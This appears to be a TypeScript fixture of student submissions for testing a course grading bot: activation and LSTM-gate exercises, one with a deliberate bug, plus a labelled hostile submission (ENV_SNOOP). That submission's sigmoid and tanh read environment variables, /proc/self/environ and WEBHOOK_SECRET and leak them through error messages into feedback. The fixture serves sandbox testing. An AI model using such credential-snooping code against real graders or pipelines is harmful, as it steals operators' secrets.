// Student submissions as file maps (repository path → content), written the way a student would: 01 complete,
// 02 with one activation swapped and two functions left as stubs. Real code, so the real graders grade them.

export const ACTIVATIONS = `// Exercise 01: numerically stable activations.
export function sigmoid(x: number): number {
  if (x >= 0) return 1 / (1 + Math.exp(-x));
  const e = Math.exp(x);
  return e / (1 + e);
}

export function tanh(x: number): number {
  if (x > 20) return 1;
  if (x < -20) return -1;
  const e = Math.exp(-2 * Math.abs(x));
  const t = (1 - e) / (1 + e);
  return x < 0 ? -t : t;
}
`;

export const LSTM_GATES = `import { sigmoid, tanh } from '../../01-activations/src/activations.js';

export type Vector = number[];
export type Matrix = number[][];
export interface Gate { W: Matrix; b: Vector }

function affine(p: Gate, hPrev: Vector, x: Vector): Vector {
  const hx = [...hPrev, ...x];
  return p.W.map((row, r) => row.reduce((sum, w, c) => sum + w * hx[c]!, 0) + p.b[r]!);
}

export function forgetGate(p: Gate, hPrev: Vector, x: Vector): Vector {
  return affine(p, hPrev, x).map(sigmoid);
}

export function inputGate(p: Gate, hPrev: Vector, x: Vector): Vector {
  // BUG: tanh where the equation has sigmoid
  return affine(p, hPrev, x).map(tanh);
}

export function candidateCell(p: Gate, hPrev: Vector, x: Vector): Vector {
  return affine(p, hPrev, x).map(tanh);
}

export function cellState(f: Vector, cPrev: Vector, i: Vector, cTilde: Vector): Vector {
  return f.map((fk, k) => fk * cPrev[k]! + i[k]! * cTilde[k]!);
}

export function outputGate(p: Gate, hPrev: Vector, x: Vector): Vector {
  throw new Error('not implemented: outputGate (02-lstm-gates)');
}

export function hiddenState(o: Vector, c: Vector): Vector {
  throw new Error('not implemented: hiddenState (02-lstm-gates)');
}
`;

/** 02 fixed: the swap repaired (a later push). */
export const LSTM_GATES_FIXED = LSTM_GATES.replace('  // BUG: tanh where the equation has sigmoid\n  return affine(p, hPrev, x).map(tanh);', '  return affine(p, hPrev, x).map(sigmoid);');

export function submission(options: { fixed?: boolean; extra?: Record<string, string> } = {}): Record<string, string> {
  return {
    'README.md': '# my course work\n',
    'exercises/01-activations/src/activations.ts': ACTIVATIONS,
    'exercises/02-lstm-gates/src/lstm-gates.ts': options.fixed ? LSTM_GATES_FIXED : LSTM_GATES,
    ...options.extra,
  };
}

/** Student code that goes looking for the bot's credentials in every place a process keeps them. */
export const ENV_SNOOP = `export function sigmoid(x: number): number {
  const g = globalThis as any;
  const found: string[] = [];
  try { found.push(JSON.stringify(g.process?.env ?? null)); } catch (e) { found.push(String(e)); }
  try { found.push(JSON.stringify(Object.keys(g))); } catch (e) { found.push(String(e)); }
  try { found.push(String(g.require?.('fs')?.readFileSync?.('/proc/self/environ', 'utf8'))); } catch (e) { found.push(String(e)); }
  try { found.push(String((Function('return this')() as any)?.process?.env?.WEBHOOK_SECRET)); } catch (e) { found.push(String(e)); }
  // Whatever was found goes where a student could read it back: the thrown message lands in the feedback.
  throw new Error('LEAK ' + found.join(' | '));
}

export function tanh(x: number): number {
  const env = (globalThis as any).process?.env;
  if (env && Object.keys(env).length > 0) throw new Error('ENV ' + JSON.stringify(env));
  return Math.tanh(x);
}
`;
